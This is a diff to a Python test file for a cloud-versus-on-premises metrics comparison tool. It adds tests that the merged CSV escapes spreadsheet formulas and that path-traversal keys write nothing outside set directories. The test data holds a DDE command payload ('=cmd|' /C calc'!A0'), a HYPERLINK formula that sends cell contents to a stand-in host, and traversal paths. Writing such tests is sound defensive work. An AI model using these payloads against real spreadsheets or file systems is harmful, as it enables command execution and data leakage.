@@ -17,7 +17,7 @@ from PIL import Image
 from rows import row
 
 import compare_cloud_onprem_metrics as compare_script
-from lambda_function.image_transform import JPEG_QUALITY, transform_image
+from lambda_function.image_transform import JPEG_QUALITY, output_name, transform_image
 from lambda_function.metrics_log import CSV_KEY, HEADER, MetricRow, rows_to_csv
 from metrics import files, judgement, same_work
 from metrics.bundle import unpack
@@ -271,7 +271,7 @@ def test_a_bucket_without_rows_is_one_line(compare_files, named_buckets):
 def test_a_bucket_that_does_not_exist_is_one_line_that_names_it(compare_files, named_buckets):
     code, _, err = compare_files(on_prem_rows(), None, *named_buckets[2], "--output-bucket", "none")
     assert code == 1
-    assert err.startswith("error: GetObject none: NoSuchBucket: ")
+    assert err.startswith("error: ListObjectsV2 none: NoSuchBucket: ")
     assert err.count("\n") == 1
 
 
@@ -575,6 +575,33 @@ def test_keys_with_any_line_end_are_one_record_each_in_the_merged_csv(compare_fi
     assert sorted(record[header.index("image_key")] for record in records) == sorted(keys)
 
 
+FORMULAS = [
+    *("=cmd|' /C calc'!A0", "+1+1", "-2+3.jpg", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1"),
+    *('=HYPERLINK("http://x.example?"&A1)', "＝1", "'=1+1", "'", "''a", "a=1+1", " =1"),  # noqa: RUF001
+]
+
+
+def spreadsheet_runs(cell: str) -> bool:
+    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))  # noqa: RUF001
+
+
+def test_no_cell_of_the_merged_csv_is_a_formula_and_one_apostrophe_off_gives_the_text_back(
+    compare_files,
+):
+    on_prem = [row(key, source="on_prem", environment="local", worker=key) for key in FORMULAS]
+    cloud = [row(key, status="error", error=f"={key}", transform="@x") for key in FORMULAS]
+    compare_files(on_prem, [*cloud, row("=only here")], "--no-download")
+    with (compare_files.output / "merged_metrics.csv").open(newline="") as file:
+        records = list(csv.DictReader(file))
+    assert [cell for record in records for cell in record.values() if spreadsheet_runs(cell)] == []
+    texts = ("image_key", "worker_on_prem", "error_cloud")
+    found = {tuple(record[name].removeprefix("'") for name in texts) for record in records}
+    expected = {(key, key, f"={key}") for key in FORMULAS}
+    assert found == expected | {("=only here", "", "")}
+    assert {record["transform_cloud"] for record in records} == {"'@x", "v1"}
+    assert {float(record["proc_ms_cloud"]) for record in records} == {12.5}  # numbers stay numbers
+
+
 @pytest.mark.parametrize(
     "flags", [["--aa"], ["--run-id", "x"], ["--timeout", "1"], ["--allow-partial"]], ids=" ".join
 )
@@ -588,3 +615,46 @@ def test_what_cannot_be_shown_in_a_terminal_is_written_as_its_escape(compare_fil
     cloud = [dataclasses.replace(r, environment="\x1b[31maws") for r in cloud_rows()]
     _, out, _ = compare_files(on_prem_rows(), cloud, "--no-download")
     assert "\x1b" not in out
+
+
+OUTSIDE_KEYS = [
+    "../../../x.jpg",
+    "/x.jpg",
+    "//x",
+    ".",
+    "..",
+    "",
+    "a/../../x",
+    "./x",
+    "\\..\\x",
+    "a//b",
+]
+
+
+def test_rows_whose_keys_lead_anywhere_are_compared_and_nothing_is_written_there(
+    compare_files, named_buckets, tmp_path, monkeypatch, capsys
+):
+    """A bucket, and a bundle, may hold any key: each is a name in a table and nothing else."""
+    s3, bucket, flags = named_buckets
+    monkeypatch.setattr(same_work, "OUTPUT_LOCAL", tmp_path / "output_local")
+    for module in (files, same_work):
+        monkeypatch.setattr(module, "CLOUD_OUTPUTS", tmp_path / "cloud_outputs")
+    jpeg = encoded(photo(1), format="JPEG")
+    keys = [*OUTSIDE_KEYS, str(tmp_path / "x.jpg")]
+    for key in keys:
+        s3.put_object(Bucket=bucket, Key=f"processed/{output_name(key)}", Body=jpeg)
+    facts = {"proc_ms": 5.0, "cpu_ms": 5.0}
+    on_prem = [row(key, source="on_prem", environment="local", **facts) for key in keys]
+    cloud = [row(key, output_sha256=hashlib.sha256(jpeg).hexdigest(), **facts) for key in keys]
+    s3.put_object(Bucket=bucket, Key=CSV_KEY, Body=csv_of(cloud))
+    bundle, again = tmp_path / "run.zip", tmp_path / "again"
+    code, out, err = compare_files(on_prem, None, *flags, "--bundle", str(bundle))
+    assert (code, err) == (1, "")  # the outputs differ, by hash
+    assert f"the output differs for {len(keys)} pictures" in out
+    assert compare_script.main(["--from", str(bundle), "--output", str(again)]) == 1
+    with (again / "merged_metrics.csv").open(newline="") as file:
+        assert {record["image_key"] for record in csv.DictReader(file)} == set(keys)
+    made = {path.relative_to(tmp_path).parts[0] for path in tmp_path.rglob("*") if path.is_file()}
+    assert made == {"on_prem.csv", "cloud.csv", "run.zip", "results", "again", "cloud_outputs"}
+    downloads = {path.name for path in (tmp_path / "cloud_outputs").iterdir()}
+    assert downloads == {f"{hashlib.sha256(key.encode()).hexdigest()}.jpg" for key in keys}
